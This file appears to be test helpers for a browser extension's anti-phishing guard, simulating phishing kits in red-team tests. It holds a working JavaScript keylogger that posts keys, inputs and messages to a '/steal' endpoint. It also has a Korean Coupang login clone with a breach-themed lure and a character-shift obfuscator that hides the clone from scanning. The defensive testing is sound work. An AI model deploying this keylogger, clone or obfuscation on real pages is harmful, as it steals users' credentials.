import type { RecordedRequest, TestServer } from '../harness/server';
import { expect, test } from 'vitest';
import type { BrowserContext, Session, Tab } from '../harness';
import { poll } from '../harness';
import {
  addToHead,
  bodyOf,
  expectNoWarningFor,
  expectPageWarning,
  fixtureHtml,
  isWarningUrl,
} from '../page-helpers';

export { expectPageWarning, isWarningUrl } from '../page-helpers';

/**
 * A phishing kit that has read our source (issue #10). Each page below is the attacker's: its own script
 * does the attack, and everything it gets hold of (keys, messages from the extension, the moment the attack
 * is in place) is sent to its server, as a real kit would. The tests read the server's log, so what the
 * user would lose is counted even after the tab has left the page.
 */
export const F01 = fixtureHtml('fake/f01-login-clone-ko.html');
export const F01_BODY = bodyOf(F01);
export const PASSWORD = '#login-password-input';

/** JSON for inline <script>: `</script>` inside page markup must not end the script. */
export const js = (v: unknown): string => JSON.stringify(v).replace(/</g, '\\u003c');

/**
 * First script of the page's <head>: runs before anything of the page, but after a document_start content
 * script. `steal(kind, data)` posts to /steal on the page's own host; a keylogger on `window` (capture) and
 * on `document` sends every key and input; every window message is sent too (the extension announcing
 * itself).
 */
export const KEYLOGGER = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.logKeys = function () {
  window.addEventListener('keydown', function (e) { steal('key', e.key); }, true);
  document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
};
logKeys();
window.addEventListener('message', function (e) {
  if (e.data && e.data.messageId === 'attacker') return;
  steal('message', JSON.stringify(e.data));
});
</script>`;

/** Puts `markup` first in <head>. */
export const first = (html: string, markup: string): string =>
  html.replace(/<head([^>]*)>/i, `<head$1>${markup}`);

/** f01 (a Coupang login clone) with the keylogger first and `attack` last in <head>. */
export const kit = (attack: string, html = F01): string => addToHead(first(html, KEYLOGGER), attack);

export const stolen = (server: TestServer, host: string, kind?: string): RecordedRequest[] =>
  server
    .requestsFor(host)
    .filter((r) => r.path.startsWith('/steal?') && (!kind || r.path.startsWith(`/steal?${kind}=`)));

/** Either the attack says it is in place, or the tab already left for the warning page. */
export async function attackSettled(s: Session, tab: Tab, server: TestServer, host: string): Promise<void> {
  await poll(
    async () => stolen(server, host, 'ready').length > 0 || isWarningUrl(s, await liveUrl(tab)),
    (ok) => ok,
    20_000,
    'the attack to be in place or the warning page',
  );
}

async function liveUrl(tab: Tab): Promise<string> {
  return tab.evaluate(() => location.href).catch(() => tab.url());
}

/**
 * The user types where the page points them: clicks the element (when the page still shows it) and types.
 * On the warning page the keys go to our page, as they would for a user. A box outside the window (a login
 * below a long list) is scrolled to first, as the user would scroll to it: a click at a point outside the
 * window hits nothing, and the keys went to the body.
 */
export async function userTypes(tab: Tab, selector: string, text: string): Promise<void> {
  const box = await tab
    .evaluate((sel: string) => {
      const el = document.querySelector(sel);
      let r = el?.getBoundingClientRect();
      if (
        el &&
        r &&
        r.width > 0 &&
        (r.bottom <= 0 || r.top >= innerHeight || r.right <= 0 || r.left >= innerWidth)
      ) {
        el.scrollIntoView({ block: 'center', inline: 'center' });
        r = el.getBoundingClientRect();
      }
      return r && r.width > 0 ? { x: r.left + r.width / 2, y: r.top + r.height / 2 } : null;
    }, selector)
    .catch(() => null);
  if (box) await tab.mouseClick(box.x, box.y).catch(() => undefined);
  await tab.keyboard(text).catch(() => undefined);
}

/**
 * The honest twin's victim, in a box's frame of `host` whose page has KEYLOGGER: as `victimTypes`, but what counts is
 * what the box holds (the logger's input reports, waited for), not the keydowns the page's listeners heard. Keys typed
 * while the guard judges the page are held and given back as text (insertText), which the page's keydown listeners
 * never hear: on a loaded machine a fast typist's seven keys can all fall in one judgement (a sub-frame's first key
 * waits while the tab's silent frames are read, red team 46), and a count of keydowns reads 0 with the whole password
 * in the box (CI flakes hunted, ci50: hsp in Firefox). Returns the longest value the box reported (the reports are
 * separate requests and may arrive out of order; typing only adds) once it is `text` or 20 s after the keys, and
 * whether the warning shows then; the tab is closed.
 */
export async function honestTypes(
  s: Session,
  server: TestServer,
  tab: Tab,
  host: string,
  box: string,
  text = 'hunter2',
): Promise<{ value: string | undefined; warned: boolean }> {
  await pause(5_000);
  if (await onPage(s, tab)) await userTypes(tab, box, text);
  const value = () =>
    stolen(server, host, 'input')
      .map((r) => decodeURIComponent(r.path.slice('/steal?input='.length)))
      .reduce<string | undefined>((a, v) => (v.length > (a?.length ?? -1) ? v : a), undefined);
  await poll(value, (v) => v === text, 20_000, `the box to hold ${text}`).catch(() => undefined);
  const warned = !(await onPage(s, tab));
  await tab.close();
  return { value: value(), warned };
}

/** Allowances ("Continue anyway") the background holds. */
export const allowances = (s: Session): Promise<{ host: string; until: number }[]> =>
  s
    .evalInExtension(
      () =>
        ((globalThis as unknown as { browser?: typeof chrome }).browser ?? chrome).runtime.sendMessage({
          type: 'ui:list-allowances',
        }) as Promise<{ allowances: { host: string; until: number }[] }>,
    )
    .then((r) => r?.allowances ?? []);

/** A kit: its test's name, the host it is served on, its markup, and a reason its warning must give. */
export type Kit = readonly [name: string, host: string, html: string, code: string];

/**
 * One test per kit: the page served on its host at /p, opened in a tab brought to the front, is replaced by the
 * page warning, which gives the kit's reason.
 */
export function testKitsWarned(ctx: BrowserContext, session: () => Session, kits: readonly Kit[]): void {
  for (const [name, host, html, code] of kits)
    test(`${name}: warned`, async () => {
      ctx.server.page(host, '/p', html);
      const s = session();
      const tab = await s.newTab(ctx.server.url(host, '/p'));
      await tab.bringToFront();
      const w = await expectPageWarning(s, tab, 20_000);
      expect(w.kind).toBe('suspicious-page');
      expect(w.state?.page?.reasons.map((r) => r.code)).toContain(code);
      await tab.close();
    });
}

/** The honest twin: served on its host at `path`, no warning for three seconds. */
export function testLeftAlone(
  ctx: BrowserContext,
  session: () => Session,
  name: string,
  host: string,
  path: string,
  html: string,
): void {
  test(name, async () => {
    ctx.server.page(host, path, html);
    const tab = await session().newTab(ctx.server.url(host, path));
    await expectNoWarningFor(tab, 3_000);
    await tab.close();
  });
}

/** A Coupang login clone (red teams 38 and 39: what the victim is shown when a page turns into it). */
export const CLONE = `<header><h1>쿠팡</h1></header><form onsubmit="return false"><h2>쿠팡 회원 로그인</h2>
<p>회원정보 유출 확인을 위해 로그인해 주세요.</p><input name="email" placeholder="아이디(이메일)" style="width:320px;height:40px">
<input id="pw" type="password" name="pw" placeholder="비밀번호" style="width:320px;height:40px"><button>로그인</button></form>
<footer>© Coupang Corp. All rights reserved.</footer>`;
/** The clone as a script writes it, kept out of the script's words (the first scan reads what a script will show). */
export const hiddenClone = `(function (t) { var u = ''; for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1); return u; })(${js(
  Array.from(CLONE, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''),
)})`;
export const CLONE_TITLE = `String.fromCharCode(${Array.from('쿠팡 회원 로그인', (c) => c.charCodeAt(0)).join(',')})`;
/** The page the victim leaves to (and comes back from). */
export const AWAY = `<!doctype html><meta charset="utf-8"><title>다음 글</title><p>다음 글입니다.</p>`;

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** The tab still shows the page, not the warning page */
export const onPage = async (s: Session, tab: Tab): Promise<boolean> =>
  !isWarningUrl(s, await tab.evaluate(() => location.href).catch(() => tab.url()));

/**
 * The victim's part in a kit already open in `tab`: the page left 5 s to do its worst, then (unless the warning came
 * first) a click into `box` and seven keys; 3 s later, the keys the kit's logger got since `before` and whether the
 * warning shows. The tab is closed.
 */
export async function victimTypes(
  s: Session,
  server: TestServer,
  tab: Tab,
  host: string,
  box: string,
  before = 0,
): Promise<{ got: number; warned: boolean }> {
  await pause(5_000);
  if (await onPage(s, tab)) await userTypes(tab, box, 'hunter2');
  await pause(3_000);
  const got = stolen(server, host, 'key').length - before;
  const warned = !(await onPage(s, tab));
  await tab.close();
  return { got, warned };
}
